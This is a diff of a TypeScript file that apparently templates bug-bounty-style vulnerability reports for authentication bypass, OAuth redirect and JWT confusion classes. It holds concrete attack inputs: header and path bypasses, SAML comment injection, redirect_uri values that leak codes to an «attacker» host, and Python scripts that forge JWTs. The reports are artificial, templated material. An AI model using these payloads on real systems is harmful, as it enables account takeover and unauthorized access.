@@ -12,64 +12,79 @@ const authenticationBypass: VulnerabilityClass = {
     ['High', 4],
   ],
   places: [
-    { path: '«api»/internal/users', parameter: 'X-Original-URL', detail: 'a header of the gateway' },
-    { path: '/admin;/console', parameter: 'path', detail: 'a semicolon in the path' },
     {
-      method: 'POST',
-      path: '«api»/login',
-      parameter: 'password',
-      detail: 'an empty password with `authType: "ldap"`',
-    },
-    { path: '«collection»/%2e%2e/admin/settings', parameter: 'path', detail: 'encoded dots' },
-    { method: 'POST', path: '/saml/acs', parameter: 'SAMLResponse', detail: 'a comment inside the name id' },
-  ],
-  titles: [
-    'Authentication bypass on «host» with «detail»',
-    'Unauthenticated access to «path» («detail»)',
-    'Login as any «staffRole» without a password',
-    'Gateway and backend read the path differently → admin API without a session',
-  ],
-  summaries: [
-    'With «detail» the check at the door is skipped and `«path»` answers without a session.',
-    'The proxy that checks sessions and the service behind it do not agree about the address. Using «detail» I reach `«path»` without a cookie.',
-  ],
-  steps: [
-    [
-      'Call `«path»` in the normal way, without a cookie: 401.',
-      'Repeat it with «detail» as in the request below: 200.',
-      'I read one page with my own account in it and stopped.',
-    ],
-    [
-      'Take the request below as it is; there is no session in it.',
-      'Compare the length of the answer with that of the signed-in admin page.',
-    ],
-  ],
-  proofs: [
-    [
-      {
-        say: 'No cookie, no token:',
-        lang: 'http',
-        code: `«method» «path» HTTP/1.1
+      path: '«api»/internal/users',
+      parameter: 'X-Original-URL',
+      detail: 'a header that only the gateway should set',
+      excerpt: `GET / HTTP/1.1
 Host: «host»
-X-Original-URL: «api»/public/health
-X-Forwarded-For: 127.0.0.1
+X-Original-URL: «api»/internal/users
 
 HTTP/1.1 200 OK
 Content-Type: application/json
 
 {"users":[{"id":1,"email":"root@«domain»","role":"super"},{"id":2,"email":"ops@«domain»","role":"admin"}],"total":«many2»}`,
-      },
+    },
+    {
+      path: '/admin/console',
+      parameter: 'path',
+      detail: 'a semicolon in the path',
+      excerpt: `GET /admin/console   HTTP/1.1   ->  401   «server»
+GET /admin;/console  HTTP/1.1   ->  200   the application behind it
+
+<title>Console - «company»</title> … <nav>Users · Jobs · Feature switches</nav>`,
+    },
+    {
+      method: 'POST',
+      path: '«api»/login',
+      parameter: 'authType',
+      detail: 'an empty password and `"authType": "ldap"`',
+      excerpt: `POST «api»/login HTTP/1.1
+Host: «host»
+Content-Type: application/json
+
+{"user":"«victim»","password":"","authType":"ldap"}
+
+HTTP/1.1 200 OK
+Set-Cookie: «cookieName»=«session»; HttpOnly; Secure`,
+    },
+    {
+      method: 'POST',
+      path: '/saml/acs',
+      parameter: 'SAMLResponse',
+      detail: 'a comment inside the name id of a SAML answer',
+      excerpt: `<saml:NameID>«victim»<!-- -->.«attacker»</saml:NameID>
+
+POST /saml/acs HTTP/1.1
+Host: «host»
+
+HTTP/1.1 302 Found
+Location: /home
+Set-Cookie: «cookieName»=«session»   # session of «victim»`,
+    },
+  ],
+  titles: [
+    'Authentication bypass on «host» with «detail»',
+    'Signed in without a password: «detail» («path»)',
+    'Unauthenticated access to «path»',
+    '«Detail» is enough to pass the login of «host»',
+  ],
+  summaries: [
+    'With «detail» the check at the door is skipped and `«path»` answers as to somebody with rights.',
+    'Two parts of «host» read a request differently. Using «detail» I get past the one that checks who I am.',
+  ],
+  steps: [
+    [
+      'Use `«path»` in the normal way with wrong or no credentials: refused.',
+      'Repeat it with «detail», as below: accepted.',
+      'I looked at one page, with my own two accounts in it, and stopped.',
     ],
     [
-      {
-        say: 'Three lines side by side:',
-        lang: 'text',
-        code: `GET /admin/console               401   «server»
-GET /admin;/console              200   application behind it
-GET /admin%2fconsole             400   «server»`,
-      },
+      'Take the request below as it is; there is no session in it.',
+      'Compare the answer with what a signed-in person sees.',
     ],
   ],
+  proofs: [[{ say: 'What was sent and what came back:', lang: 'http', code: '«excerpt»' }]],
   impacts: [
     'No account is needed at all. Everything that a «staffRole» sees and does is open: «secrets».',
     'Complete loss of access control for the internal API of «company», from the internet.',
@@ -95,20 +110,37 @@ const oauthRedirect: VulnerabilityClass = {
     ['Medium', 3],
   ],
   places: [
-    { path: '/oauth/authorize', parameter: 'redirect_uri', detail: 'a look-alike path' },
-    { path: '/oauth/authorize', parameter: 'redirect_uri', detail: 'a subdomain of the client' },
-    { path: '/connect/callback', parameter: 'state', detail: 'a missing check of `state`' },
-    { path: '/sso/start', parameter: 'RelayState', detail: 'an absolute address' },
+    {
+      path: '/oauth/authorize',
+      parameter: 'redirect_uri',
+      detail: 'a path with dots in it',
+      excerpt: `https://«host»/oauth/authorize?client_id=mobile&response_type=code&scope=openid%20profile
+  &redirect_uri=https%3A%2F%2Fapp.«domain»%2Fcallback%2F..%2F..%2Fr%3Fto%3Dhttps%3A%2F%2F«attacker»`,
+    },
+    {
+      path: '/oauth/authorize',
+      parameter: 'redirect_uri',
+      detail: 'any subdomain of the client',
+      excerpt: `https://«host»/oauth/authorize?client_id=web&response_type=code&scope=openid%20profile
+  &redirect_uri=https%3A%2F%2F«abandoned».«domain»%2Fcallback
+# «abandoned».«domain» shows pages of users, mine loads an image from «attacker»`,
+    },
+    {
+      path: '/sso/start',
+      parameter: 'RelayState',
+      detail: 'an absolute address with an encoded slash',
+      excerpt: `https://«host»/sso/start?idp=corporate&RelayState=https:%2f%2f«attacker»%2fcatch`,
+    },
   ],
   titles: [
     'OAuth: `«parameter»` accepts «detail», authorization code leaks',
     'Account takeover through «path»: `«parameter»` is not compared exactly',
     'Code of the victim is sent to my host (`«parameter»`, «detail»)',
-    'Open redirect after OAuth with encoded slash leaks the code',
+    'Sign-in of «host» hands the code to strangers («detail»)',
   ],
   summaries: [
-    'The authorization server compares `«parameter»` by prefix only. With «detail» the code of the victim is delivered to a page of mine.',
-    'Because of «detail» the login of a victim can be completed at my host. One click on a link on the real domain is enough, an existing session needs no consent again.',
+    'The authorization server does not compare `«parameter»` exactly. With «detail» the code of the victim is delivered to a page of mine.',
+    'Because `«parameter»` may be «detail», the login of a victim can be completed at my host. One click on a link on the real domain is enough, an existing session needs no consent again.',
   ],
   steps: [
     [
@@ -124,8 +156,7 @@ const oauthRedirect: VulnerabilityClass = {
       {
         say: 'The link:',
         lang: 'text',
-        code: `https://«host»«path»?client_id=mobile&response_type=code&scope=openid%20profile
-  &«parameter»=https%3A%2F%2Fapp.«domain»%2Fcallback%2F..%2F..%2Fr%3Fto%3Dhttps%3A%2F%2F«attacker»`,
+        code: '«excerpt»',
       },
       {
         say: 'What arrives:',
@@ -135,9 +166,14 @@ const oauthRedirect: VulnerabilityClass = {
     ],
     [
       {
-        say: 'Exchange of the code (PKCE is not asked for):',
+        say: 'The link that the victim follows:',
+        lang: 'text',
+        code: '«excerpt»',
+      },
+      {
+        say: 'Exchange of the code that arrives (PKCE is not asked for):',
         lang: 'bash',
-        code: `curl -s https://«host»/oauth/token \\
+        code: `$ curl -s https://«host»/oauth/token \\
   -d grant_type=authorization_code -d client_id=mobile \\
   -d code=SplxlOBeZQQYbYS6WxSbIA -d redirect_uri=https://app.«domain»/callback
 {"access_token":"«jwt»","token_type":"Bearer","expires_in":3600}`,
@@ -169,16 +205,59 @@ const jwtConfusion: VulnerabilityClass = {
     ['High', 3],
   ],
   places: [
-    { path: '«api»/me', parameter: 'alg', detail: 'HS256 signed with the public key' },
-    { path: '«api»/me', parameter: 'alg', detail: '`none`' },
-    { path: '«api»/me', parameter: 'kid', detail: 'a path to an empty file' },
-    { path: '«api»/me', parameter: 'jku', detail: 'a key set on a host of mine' },
+    {
+      path: '«api»/me',
+      parameter: 'alg',
+      detail: 'HS256, signed with the public key',
+      excerpt: `import base64, hashlib, hmac, json, pathlib, time
+
+def part(value):
+    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
+    return base64.urlsafe_b64encode(raw).rstrip(b"=")
+
+key = pathlib.Path("public.pem").read_bytes()          # from /.well-known/jwks.json
+head = part({"alg": "HS256", "typ": "JWT"})
+body = part({"sub": "«victimId»", "exp": int(time.time()) + 600})
+signature = hmac.new(key, head + b"." + body, hashlib.sha256).digest()
+print((head + b"." + body + b"." + part(signature)).decode())`,
+    },
+    {
+      path: '«api»/me',
+      parameter: 'alg',
+      detail: 'the algorithm `none`',
+      excerpt: `import base64, json
+
+def part(value):
+    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
+
+# "none" is refused, "nOnE" is not
+print(part({"alg": "nOnE", "typ": "JWT"}) + "." + part({"sub": "«victimId»"}) + ".")`,
+    },
+    {
+      path: '«api»/me',
+      parameter: 'kid',
+      detail: 'a key id that points to an empty file',
+      excerpt: `import jwt
+
+print(jwt.encode({"sub": "«victimId»"}, key="", algorithm="HS256",
+                 headers={"kid": "../../../../../../dev/null"}))`,
+    },
+    {
+      path: '«api»/me',
+      parameter: 'jku',
+      detail: 'a key set on my own host',
+      excerpt: `import jwt
+
+private_key = open("mine.pem").read()                  # public part at https://«attacker»/jwks.json
+print(jwt.encode({"sub": "«victimId»"}, private_key, algorithm="RS256",
+                 headers={"jku": "https://«attacker»/jwks.json", "kid": "1"}))`,
+    },
   ],
   titles: [
     'JWT: «host» accepts «detail», any user can be impersonated',
-    'Algorithm confusion in the session token of «host»',
-    'Forged JWT through `«parameter»` («detail»)',
-    'Signature of the access token is not verified properly',
+    'Signature of the access token is not verified properly (`«parameter»`)',
+    'Forged JWT through `«parameter»`: «detail»',
+    'Session token of «host» can be made by anybody («detail»)',
   ],
   summaries: [
     'The API verifies tokens with whatever the token itself asks for. With «detail» I sign tokens for any user id.',
@@ -186,28 +265,14 @@ const jwtConfusion: VulnerabilityClass = {
   ],
   steps: [
     [
-      'Fetch the public key from `/.well-known/jwks.json`.',
       'Make a token with the script below; the subject is my second account «victimId».',
-      'Call `«path»` with it: the answer is the profile of the second account.',
+      'Call `«path»` with it.',
+      'The answer is the profile of the second account (`«victim»`).',
     ],
   ],
   proofs: [
     [
-      {
-        say: 'The script:',
-        lang: 'python',
-        code: `import base64, hashlib, hmac, json, pathlib, time
-
-def part(value):
-    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
-    return base64.urlsafe_b64encode(raw).rstrip(b"=")
-
-key = pathlib.Path("public.pem").read_bytes()          # from jwks.json
-head = part({"alg": "HS256", "typ": "JWT"})
-body = part({"sub": "«victimId»", "exp": int(time.time()) + 600})
-signature = hmac.new(key, head + b"." + body, hashlib.sha256).digest()
-print((head + b"." + body + b"." + part(signature)).decode())`,
-      },
+      { say: 'The script:', lang: 'python', code: '«excerpt»' },
       {
         say: 'And its use:',
         lang: 'http',
@@ -219,14 +284,6 @@ HTTP/2 200
 Content-Type: application/json
 
 {"id":«victimId»,"email":"«victim»","role":"«customer»"}`,
-      },
-    ],
-    [
-      {
-        say: 'Header and payload of a token that was accepted:',
-        lang: 'json',
-        code: `{ "alg": "none", "typ": "JWT" }
-{ "sub": "«victimId»", "iss": "https://id.«domain»", "exp": 1795000000 }`,
       },
     ],
   ],
